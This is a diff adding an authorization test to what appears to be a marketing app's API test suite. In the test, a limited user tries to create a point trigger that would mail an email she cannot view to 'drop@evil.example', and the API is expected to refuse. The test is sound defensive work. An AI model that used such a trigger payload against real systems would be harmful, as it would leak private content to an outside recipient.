@@ -73,3 +73,28 @@ def test_an_unpublished_email_sends_nothing_and_a_missing_one_is_refused(api, dr
     api.post(f"/api/contacts/{ann['id']}/points/plus/10")
     drain()
     assert sent_messages() == []
+
+
+def test_a_limited_user_cannot_mail_out_an_email_she_may_not_view(api, drain):
+    """The event would send the email's content to addresses she names: she must be able to view it."""
+    mallory = _as(api, "mallory", {"point:triggers": ["full"], "email:emails": ["viewown", "editown", "create"]})
+    secret = make_email(api, name="Secret offer")
+    mine = make_email(mallory, name="Mine")
+    body = lambda email: {  # noqa: E731
+        "name": "Leak",
+        "points": 1,
+        "events": [
+            {
+                "type": "email.send_to_user",
+                "name": "x",
+                "properties": {"useremail": {"email": email}, "to": "drop@evil.example"},
+            }
+        ],
+    }
+    refused = mallory.post("/api/points/triggers/new", body(secret["id"]))
+    assert refused.status_code == 403 and "Secret offer" not in str(refused.json)
+    assert api.get("/api/points/triggers").json["total"] == 0
+    assert mallory.post("/api/points/triggers/new", body(mine["id"])).status_code == 201
+    assert_error(
+        mallory.post("/api/points/triggers/new", body(99999)), 400, field="events[0][properties][useremail][email]"
+    )
